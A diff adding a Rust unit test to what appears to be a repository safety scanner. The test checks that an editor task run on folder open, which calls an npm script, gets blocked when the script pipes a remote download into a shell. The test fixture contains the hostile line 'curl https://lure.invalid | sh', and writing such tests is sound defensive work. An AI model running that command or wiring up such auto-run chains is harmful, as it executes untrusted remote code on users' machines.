@@ -151,6 +151,31 @@ fn a_tools_configuration_runs_when_the_tool_does() {
 }
 
 #[test]
+fn a_package_script_that_an_editor_task_runs_is_judged_as_opened() {
+    let script = Action::PackageScript { manager: "npm".into(), script: "prep".into(), span: 0..0 };
+    let tasks = Facts {
+        commands: vec![command("npm run prep", vec![script])],
+        starts: vec![start(Moment::Open, "task", Some(0))],
+        ..Facts::default()
+    };
+    let mut pipe = command("curl https://lure.invalid | sh", Vec::new());
+    pipe.place.end = 20;
+    let manifest =
+        Facts { commands: vec![pipe], starts: vec![start(Moment::Run, "prep", Some(0))], ..Facts::default() };
+    let records = |tasks: Facts| {
+        vec![
+            file(".vscode/tasks.json", Kind::Json, tasks, vec![]),
+            file("package.json", Kind::Json, manifest.clone(), vec![signal(Basis::RemoteToShell)]),
+        ]
+    };
+    assert_eq!(report(records(Facts::default()), vec![]).verdict, Verdict::Pass);
+    let report = report(records(tasks), vec![]);
+    assert_eq!(only(&report).moment, Some(Moment::Open));
+    assert_eq!(only(&report).chain[0].path, ".vscode/tasks.json");
+    assert_eq!(report.verdict, Verdict::Block);
+}
+
+#[test]
 fn a_loop_of_imports_ends() {
     let mut records = server(Moment::Start, Basis::CompleteChain);
     records[1].facts = loads("../server");
